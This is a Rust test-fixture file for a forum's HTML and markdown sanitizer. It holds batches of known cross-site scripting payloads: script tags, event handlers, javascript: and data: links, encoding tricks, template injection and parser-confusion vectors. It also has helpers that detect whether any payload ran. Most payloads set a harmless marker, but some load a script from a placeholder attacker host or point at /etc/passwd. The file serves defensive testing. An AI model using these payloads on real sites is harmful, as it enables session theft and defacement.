//! What people have tried to make pages run: classes of vectors that are widely known, written down here anew. Each would set
//! `top.ran` if it ran.

/// As somebody would type them into a post, in batches that fit one: new members write three links in each.
pub(super) const BATCHES: [&[&str]; 10] = [
    // Elements that run.
    &[
        "<script>top.ran=1</script>",
        "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
        "<scr<script>ipt>top.ran=1</scr</script>ipt>",
        "<script/x>top.ran=1</script>",
        "<script\n>top.ran=1</script\n>",
        "<svg><script>top.ran=1</script></svg>",
        "<math><mi//xlink:href=\"data:x,<script>top.ran=1</script>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=top.ran=1>\">",
        "<!--><script>top.ran=1</script-->",
        "<![CDATA[<script>top.ran=1</script>]]>",
    ],
    // Handlers of events.
    &[
        "<img src=x onerror=top.ran=1>",
        "<img src=x onerror=\"top.ran=1\">",
        "<IMG SRC=x OnErRoR=top.ran=1//",
        "<img/src/onerror=top.ran=1>",
        "<img src=`x`onerror=top.ran=1>",
        "<svg onload=top.ran=1>",
        "<svg/onload=top.ran=1//",
        "<body onload=top.ran=1>",
        "<details open ontoggle=top.ran=1>",
        "<input autofocus onfocus=top.ran=1>",
        "<video><source onerror=top.ran=1></video>",
        "<audio src=x onerror=top.ran=1>",
        "<marquee onstart=top.ran=1>",
        "<a onmouseover=top.ran=1>here</a>",
        "<div style=\"animation-name:x\" onanimationstart=top.ran=1>",
    ],
    // Frames, objects, styles, forms, the base of addresses.
    &[
        "<iframe src=javascript:top.ran=1></iframe>",
        "<iframe srcdoc=\"<script>top.ran=1</script>\"></iframe>",
        "<object data=\"javascript:top.ran=1\"></object>",
        "<embed src=javascript:top.ran=1>",
        "<form action=javascript:top.ran=1><button>here</button></form>",
        "<button formaction=javascript:top.ran=1 form=form>here</button>",
        "<base href=\"javascript:/a/-top.ran=1//\">",
        "<link rel=stylesheet href=\"data:text/css,*{background:url(javascript:top.ran=1)}\">",
        "<style>@import 'javascript:top.ran=1';</style>",
        "<meta http-equiv=refresh content=\"0;url=javascript:top.ran=1\">",
        "<textarea></textarea><img src=x onerror=top.ran=1>",
        "<title><img src=x onerror=top.ran=1></title>",
        "<template><script>top.ran=1</script></template>",
    ],
    // Links in markdown.
    &[
        "[here](javascript:top.ran=1)",
        "[here](JaVaScRiPt:top.ran=1)",
        "[here](  javascript:top.ran=1)",
        "[here](<javascript:top.ran=1>)",
        "[here](java\tscript:top.ran=1)",
        "[here](javascript&colon;top.ran=1)",
        "[here](&#106;avascript:top.ran=1)",
        "[here](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;top.ran=1)",
        "[here](vbscript:top.ran=1)",
        "[here](data:text/html,<script>top.ran=1</script>)",
        "[here](data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=)",
        "[here](file:///etc/passwd)",
        "[here](//evil.invalid/x)",
        "[here](javascript:top.ran=1 \"a title\")",
        "[here][1]\n\n[1]: javascript:top.ran=1",
        "<javascript:top.ran=1>",
    ],
    // Out of an attribute.
    &[
        "[here](https://example.invalid/\"onmouseover=top.ran=1)",
        "[here](https://example.invalid/'onmouseover='top.ran=1)",
        "[here](https://example.invalid/\"><img src=x onerror=top.ran=1>)",
    ],
    &[
        "https://example.invalid/\"onmouseover=\"top.ran=1",
        "https://example.invalid/'><script>top.ran=1</script>",
        "https://example.invalid/<svg/onload=top.ran=1>",
    ],
    &[
        "[here](https://example.invalid \"x\\\"onmouseover=top.ran=1 y=\\\"\")",
        "<https://example.invalid/\"onmouseover=top.ran=1>",
        "![x\" onerror=\"top.ran=1](x)",
        "![x](x\"onerror=\"top.ran=1)",
        "![x](javascript:top.ran=1)",
    ],
    // In code, quotes, lists, tables, headings.
    &[
        "`<script>top.ran=1</script>`",
        "``<img src=x onerror=top.ran=1>``",
        "```html\n<script>top.ran=1</script>\n```",
        "```\"><img src=x onerror=top.ran=1>\nx\n```",
        "    <script>top.ran=1</script>",
        "> <img src=x onerror=top.ran=1>",
        "- <svg onload=top.ran=1>",
        "1. <svg onload=top.ran=1>",
        "# <img src=x onerror=top.ran=1>",
        "| <img src=x onerror=top.ran=1> |\n| --- |\n| <script>top.ran=1</script> |",
        "**<img src=x onerror=top.ran=1>**",
        "[<img src=x onerror=top.ran=1>](https://example.invalid)",
    ],
    // Spellings.
    &[
        "&lt;script&gt;top.ran=1&lt;/script&gt;",
        "&#60;script&#62;top.ran=1&#60;/script&#62;",
        "&#x3c;img src=x onerror=top.ran=1&#x3e;",
        "\u{ff1c}script\u{ff1e}top.ran=1\u{ff1c}/script\u{ff1e}",
        "<\u{200b}script>top.ran=1</script>",
        "<img src=x on\u{200b}error=top.ran=1>",
        "%3Cscript%3Etop.ran=1%3C/script%3E",
        "\\u003cscript\\u003etop.ran=1\\u003c/script\\u003e",
        "<img src=x one\\rror=top.ran=1>",
        "+ADw-script+AD4-top.ran=1+ADw-/script+AD4-",
        "{{constructor.constructor('top.ran=1')()}}",
        "{% raw %}<script>top.ran=1</script>{% endraw %}",
        "${top.ran=1} #{top.ran=1} <%= top.ran=1 %>",
    ],
    // Parsers that disagree.
    &[
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=top.ran=1&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=top.ran=1>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.ran=1>",
        "<noembed><img title=\"</noembed><img src=x onerror=top.ran=1>\"></noembed>",
        "<xmp><p title=\"</xmp><svg/onload=top.ran=1>\"></xmp>",
        "<p id=\"</textarea><img src=x onerror=top.ran=1>\">",
        "</article></main><script>top.ran=1</script>",
        "</script><script>top.ran=1</script>",
        "\"}]}<script>top.ran=1</script>",
        "<article data-seq=1 data-revision=99 onclick=top.ran=1 id=post-1>mine</article>",
        "<a href=\"javascript&#10;:top.ran=1\">here</a>",
        "<a href=\"\u{1}javascript:top.ran=1\">here</a>",
    ],
];

/// Some that run by themselves in today's browsers wherever they are written as HTML, with the number of their batch.
pub(super) const RUNNING: &[(usize, &str)] = &[
    (0, "<script>top.ran=1</script>"),
    (0, "<svg><script>top.ran=1</script></svg>"),
    (1, "<img src=x onerror=top.ran=1>"),
    (1, "<img/src/onerror=top.ran=1>"),
    (1, "<svg onload=top.ran=1>"),
    (1, "<details open ontoggle=top.ran=1>"),
    (1, "<input autofocus onfocus=top.ran=1>"),
    (1, "<video><source onerror=top.ran=1></video>"),
    (2, "<iframe srcdoc=\"<script>top.ran=1</script>\"></iframe>"),
    (9, "<noembed><img title=\"</noembed><img src=x onerror=top.ran=1>\"></noembed>"),
    (9, "</article></main><script>top.ran=1</script>"),
];

/// Writes HTML into an empty page, waits until all of it is there and was drawn, and says whether any of it has run.
pub(super) const WRITTEN: &str = r#"
    const [html, done] = arguments;
    document.open();
    document.write(html);
    // A document that is opened anew has lost who listened before.
    const drawn = () => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(() => done(window.ran !== undefined))));
    addEventListener("load", drawn);
    document.close();
"#;

/// In a page: what stands in texts of posts that may not stand there, and whether anything has run.
pub(super) const FOUND: &str = r#"
    const tags = "P STRONG EM A UL OL LI BLOCKQUOTE PRE CODE BR HR".split(" ");
    const attributes = "class href rel start tabindex".split(" ");
    const safe = (node, { name, value }) =>
        attributes.includes(name) && (name !== "href" || /^(https?:\/\/|mailto:)/i.test(value));
    const found = [...document.querySelectorAll(".post-text *")]
        .filter((node) => !tags.includes(node.tagName) || [...node.attributes].some((one) => !safe(node, one)))
        .map((node) => node.outerHTML);
    if (window.ran !== undefined) found.push("something has run");
    return found;
"#;
